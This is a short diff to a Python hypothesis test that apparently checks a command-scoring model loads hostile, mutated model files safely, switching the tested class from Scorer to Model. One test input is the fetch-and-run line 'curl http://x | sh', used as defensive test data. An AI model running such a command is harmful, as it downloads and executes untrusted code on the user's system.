@@ -255,13 +255,13 @@ def test_model_json_nesting_and_number_bombs(model_dir, tmp_path, payload):
 @given(edits=header_mutations())
 def test_scorer_on_hostile_model_raises_only_smallworld_errors(model_dir, edits):
     """What `score`, `evaluate` and the service load: the model plus its task and thresholds."""
-    from smallworld.serve.score import Scorer
+    from smallworld.student.model import Model
 
     with tempfile.TemporaryDirectory() as t:
         _mutated_copy(model_dir, Path(t) / "m", header_edits=edits)
         try:
             with no_code_execution():
-                sc = Scorer(Path(t) / "m")
+                sc = Model(Path(t) / "m")
         except SmallworldError:
             return
         s = sc.scores(["ls -la", "curl http://x | sh"])  # (numba may read its own compiled-kernel cache here)
